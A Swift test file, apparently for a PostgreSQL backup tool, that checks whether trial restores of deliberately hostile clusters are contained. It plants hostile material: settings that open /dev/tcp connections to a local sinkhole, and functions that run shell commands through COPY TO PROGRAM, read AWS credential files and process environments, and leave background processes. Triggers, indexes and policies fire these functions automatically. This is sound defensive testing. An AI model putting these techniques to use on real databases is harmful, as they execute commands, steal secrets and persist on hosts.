// SPDX-License-Identifier: Apache-2.0
import Foundation
import Glibc
import TestKit
import Testing

/// Clusters that are made to get out of a trial, or into this machine.
@Suite("trial restores of hostile clusters", .serialized)
struct HostileTrialTests {
    /// Each with a command or a path of its own below `canary`, or an address at which a sinkhole listens.
    private static func settings(_ canary: String, port: Int) -> [(String, String)] {
        func command(_ name: String) -> String {
            "touch \(canary)/\(name); bash -c \"echo x > /dev/tcp/127.0.0.1/\(port)\""
        }
        return [
            ("archive_mode", "always"), ("archive_command", command("archive")), ("archive_timeout", "1s"),
            ("restore_command", command("restore")), ("archive_cleanup_command", command("cleanup")),
            ("recovery_end_command", command("end")), ("ssl", "on"),
            ("ssl_passphrase_command", command("passphrase")),
            ("ssl_passphrase_command_supports_reload", "on"), ("ssl_cert_file", "\(canary)/cert"),
            ("ssl_key_file", "\(canary)/key"), ("ssl_ca_file", "\(canary)/ca"),
            ("shared_preload_libraries", "auto_explain"), ("session_preload_libraries", "auto_explain"),
            ("dynamic_library_path", "\(canary):$libdir"), ("jit", "on"), ("jit_provider", "\(canary)/jit"),
            ("data_directory", "\(canary)/data"), ("hba_file", "\(canary)/hba"),
            ("ident_file", "\(canary)/ident"), ("external_pid_file", "\(canary)/pid"),
            ("logging_collector", "on"), ("log_directory", "\(canary)/log"), ("log_filename", "../evil.log"),
            ("log_destination", "csvlog"), ("unix_socket_directories", canary),
            ("unix_socket_permissions", "0777"), ("listen_addresses", "*"), ("port", "\(port + 1)"),
            ("primary_conninfo", "host=127.0.0.1 port=\(port) user=x"), ("primary_slot_name", "evil"),
            ("promote_trigger_file", "\(canary)/promote"), ("krb_server_keyfile", "\(canary)/keytab"),
            ("stats_temp_directory", "\(canary)/stats"), ("temp_tablespaces", "elsewhere"),
            ("bonjour", "on"), ("recovery_target_action", "shutdown"), ("hot_standby", "on"),
            ("restart_after_crash", "on"), ("autovacuum_naptime", "1s"), ("wal_receiver_timeout", "0"),
            ("archive_library", "\(canary)/archive.so"),
        ]
    }

    /// Functions that try what native code could, and say how far they came; and places from which they are called by themselves.
    private static func objects(
        _ world: TrialWorld, _ canary: String, home: String, port: Int, staying: Int
    ) async throws -> String {
        let socket = try await world.cluster.psql("SHOW unix_socket_directories")
        let production = "\(world.cluster.binaries)/psql -X -w -h \(socket)"
        let number = try await world.cluster.psql("SHOW port")
        return """
            CREATE FUNCTION public.tries(command text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN
                EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'cat >/dev/null; ' || command); RETURN 'done';
                EXCEPTION WHEN OTHERS THEN RETURN 'refused'; END $$;
            CREATE FUNCTION public.reads(path text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN
                RETURN pg_catalog.pg_read_file(path); EXCEPTION WHEN OTHERS THEN RETURN 'refused'; END $$;
            CREATE FUNCTION public.environments() RETURNS bigint LANGUAGE sql AS $$
                SELECT count(*) FROM pg_catalog.pg_ls_dir('/proc') name WHERE name ~ '^[0-9]+$'
                AND public.reads('/proc/' || name || '/environ') LIKE '%only-for-pg_backctl%' $$;
            CREATE FUNCTION public.writes() RETURNS text LANGUAGE sql AS $$
                SELECT public.tries('touch \(canary)/written') || public.tries('touch \(home)/written') $$;
            CREATE FUNCTION public.speaks() RETURNS text LANGUAGE sql AS $$
                SELECT public.tries('bash -c "echo x > /dev/tcp/127.0.0.1/\(port)"') $$;
            CREATE FUNCTION public.asks() RETURNS text LANGUAGE sql AS $$
                SELECT public.tries('\(production) -p \(number) -d postgres -c "SELECT 1"') $$;
            CREATE FUNCTION public.stays() RETURNS text LANGUAGE sql AS $$
                SELECT public.tries('setsid sleep \(staying) >/dev/null 2>&1 </dev/null &') $$;
            CREATE FUNCTION public.nests() RETURNS text LANGUAGE sql AS $$ SELECT public.tries(
                'for i in $(seq 300); do mkdir d && cd d; done; mkdir shut && touch shut/x && chmod 0 shut') $$;
            CREATE FUNCTION public.springs(n int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
                PERFORM public.writes(), public.speaks(); RETURN n; END $$;
            CREATE TABLE public.trap (n int, guarded int DEFAULT public.springs(1));
            INSERT INTO public.trap SELECT n, n FROM generate_series(1, 3) n;
            CREATE INDEX sprung ON public.trap (public.springs(n));
            ALTER TABLE public.trap ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
            CREATE POLICY springs ON public.trap USING (public.springs(n) > 0);
            CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS $$ SELECT public.writes() $$;
            CREATE FUNCTION public.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN
                PERFORM public.writes(), public.speaks(); END $$;
            CREATE EVENT TRIGGER on_start ON ddl_command_start EXECUTE FUNCTION public.on_ddl();
            """
    }

    /// What every later session meets; some servers cannot begin one any more.
    private static let laterSessions = """
        ALTER DATABASE postgres SET session_preload_libraries = 'auto_explain';
        ALTER ROLE postgres SET search_path = public, pg_catalog;
        """

    private static func checks(home: String) -> String {
        """
          - {name: writes, database: postgres, sql: SELECT public.writes(), expect: = refusedrefused}
          - {name: speaks, database: postgres, sql: SELECT public.speaks(), expect: = refused}
          - {name: asks, database: postgres, sql: SELECT public.asks(), expect: = refused}
          - {name: stays, database: postgres, sql: SELECT public.stays(), expect: = done}
          - {name: nests, database: postgres, sql: SELECT public.nests(), expect: = done}
          - {name: keys, database: postgres, sql: "SELECT public.reads('\(home)/.aws/credentials')", expect: = refused}
          - {name: environment, database: postgres, sql: SELECT public.environments(), expect: = 0, timeout: 2m}
        """
    }

    @Test(
        Requires.postgres(.v15, .v18), .timeLimit(.minutes(10)),
        arguments: [
            (PostgresCluster.Version.v15, HostileRunner.root), (.v15, .nobody), (.v15, .nobodyWithoutSight),
            (.v15, .rootWithoutUsers), (.v18, .root),
        ])
    func `run no command, write no file, send no packet, leave no process and read no secret`(
        version: PostgresCluster.Version, runner: HostileRunner
    ) async throws {
        try await TrialWorld.with(version) { world in
            let hostile = try await Self.make(world, version)
            var binary = world.binary
            binary.environment["AWS_SECRET_ACCESS_KEY"] = "only-for-pg_backctl"
            try await runner.start(&binary, in: world)
            hostile.sinkhole.forget()
            let before = try await Self.state(of: world, hostile.canary)
            let run = try await binary.run(
                world.words([
                    "--checks", try world.checks(Self.checks(home: hostile.home)), "--heapallindexed",
                    "--json",
                ]))
            try #require(run.status == 0, "\(run)")
            let told = try run.document(HostileTold.self)
            #expect(run.status == 0 && told.level == "exercised", "\(run)")
            #expect(told.neutralised.count >= 25 && told.neutralised.contains("archive_command"))
            #expect(told.isolation.contains("no packet was sent or received"), "\(told.isolation)")
            #expect(told.isolation.contains(runner.means), "\(told.isolation)")
            #expect(told.isolation.contains("no further namespaces"), "\(told.isolation)")
            #expect(!told.isolation.contains { $0.hasPrefix("weak") })
            #expect(hostile.sinkhole.connections == 0)
            #expect(try await Self.state(of: world, hostile.canary) == before)
            #expect(try await Self.staying(hostile.number) == [])
            #expect(try await world.leavings() == [])
        }
    }

    @Test(
        Requires.postgres(.v15), .timeLimit(.minutes(5)),
        arguments: [HostileRunner.rootWithoutNamespaces, .nobodyWithoutNamespaces])
    func `are not run where nothing can hold them, and told as weak by who insists`(
        runner: HostileRunner
    ) async throws {
        try await TrialWorld.with(.v15) { world in
            let hostile = try await Self.make(world, .v15)
            var binary = world.binary
            binary.environment["AWS_SECRET_ACCESS_KEY"] = "only-for-pg_backctl"
            try await runner.start(&binary, in: world)
            let refused = try await binary.run(world.words(["--json"]))
            #expect(refused.status == 10 && refused.errors.contains("--weak-isolation"), "\(refused)")
            let checks = try world.checks(
                """
                  - {name: environment, database: postgres, sql: SELECT public.environments(), expect: = 0, timeout: 2m}
                  - {name: stays, database: postgres, sql: SELECT public.stays(), expect: = done}
                """)
            let run = try await binary.run(
                world.words(["--weak-isolation", "--checks", checks, "--json"]))
            try #require(run.status == 0, "\(run)")
            let told = try run.document(HostileTold.self)
            #expect(run.status == 0, "\(run)")
            #expect(
                told.isolation.contains { $0.hasPrefix("weak: what its user can reach") },
                "\(told.isolation)")
            #expect(try await Self.staying(hostile.number) == [])
            #expect(try await world.leavings() == [])
        }
    }

    /// What a hostile cluster was given to come to, and how it could.
    private struct Hostile {
        var sinkhole: Sinkhole
        var canary, home: String
        var number: Int
    }

    /// Makes the cluster of the world hostile and backs it up; on its own server it does all that a trial must not let it do.
    private static func make(_ world: TrialWorld, _ version: PostgresCluster.Version) async throws -> Hostile
    {
        let hostile = Hostile(
            sinkhole: try Sinkhole(), canary: try world.cluster.makeDirectory("canary"),
            home: world.binary.home.path, number: Int.random(in: 1_000_000..<1_000_000_000))
        let port = hostile.sinkhole.port
        try await Program("sh")([
            "-c", "mkdir $1/.aws && echo secret > $1/.aws/credentials && chmod 777 $2", "sh", hostile.home,
            hostile.canary,
        ])
        let objects = try await objects(
            world, hostile.canary, home: hostile.home, port: port, staying: hostile.number)
        try await expectReach(hostile, world, objects)
        try await world.cluster.psql((version == .v18 ? loginTrigger : "") + laterSessions)
        try spoil(world, settings(hostile.canary, port: port))
        try await world.restore.backUp("20251101T000000", ["-Ft", "-z"])
        try await reset(hostile.canary)
        return hostile
    }

    /// Where nothing holds it, it comes to all of it: so whoever holds nothing is found out.
    ///
    /// It asks in a session after the one that made it all: who is asked from inside must find that committed.
    private static func expectReach(_ hostile: Hostile, _ world: TrialWorld, _ objects: String) async throws {
        try await world.cluster.psql(objects)
        let said = try await world.cluster.psql(
            "SELECT public.writes(), public.speaks(), public.asks(), public.stays(), trim(E'\\n' FROM public.reads('\(hostile.home)/.aws/credentials'))"
        )
        let reached = said.split(separator: "\n").last ?? ""
        #expect(reached.hasPrefix("done") && reached.hasSuffix("|done|done|done|secret"), "\(reached)")
        #expect(hostile.sinkhole.connections > 0)
        let staying = try await staying(hostile.number)
        #expect(staying.count == 1)
        for process in staying { kill(process, SIGKILL) }
    }

    /// The processes that a hostile cluster has left.
    private static func staying(_ number: Int) async throws -> [pid_t] {
        let found = try await Program("sh")([
            "-c",
            "for p in /proc/[0-9]*; do tr '\\0' ' ' <$p/cmdline 2>/dev/null | grep -qx \"sleep $1 \" && basename $p; done; true",
            "sh", "\(number)",
        ])
        return found.split(separator: "\n").compactMap { pid_t($0) }
    }

    /// The settings go behind all others, where no running server reads them any more.
    private static func spoil(_ world: TrialWorld, _ settings: [(String, String)]) throws {
        let lines =
            settings.map { "\($0) = '\($1.replacing("'", with: "''"))'" } + [
                "include_if_exists '/etc/evil.conf'"
            ]
        for name in ["postgresql.conf", "postgresql.auto.conf"] {
            let file = try FileHandle(forWritingTo: URL(filePath: "\(world.cluster.dataDirectory)/\(name)"))
            try file.seekToEnd()
            // ALTER SYSTEM has no includes.
            let kept = name == "postgresql.conf" ? lines : Array(lines.dropLast())
            try file.write(contentsOf: Data((kept.joined(separator: "\n") + "\n").utf8))
            try file.close()
        }
    }

    private static let loginTrigger = """

        CREATE FUNCTION public.on_login() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN
            PERFORM public.writes(), public.speaks(); END $$;
        CREATE EVENT TRIGGER on_login ON login EXECUTE FUNCTION public.on_login();
        """

    /// What making it has done on its own server.
    private static func reset(_ canary: String) async throws {
        try await Program("sh")(["-c", "rm -rf \"$1\"/* && echo kept > \"$1\"/kept", "sh", canary])
    }

    /// What stands in the canary's directory, and the sums of all that production keeps in its tablespace.
    private static func state(of world: TrialWorld, _ canary: String) async throws -> String {
        try await Program("sh")([
            "-c", "find \"$1\" | sort; cd \"$2\" && find . -type f | sort | xargs sha256sum", "sh", canary,
            canary + "/../space",
        ])
    }
}

private struct HostileTold: Decodable {
    var level: String?
    var neutralised, isolation: [String]
}
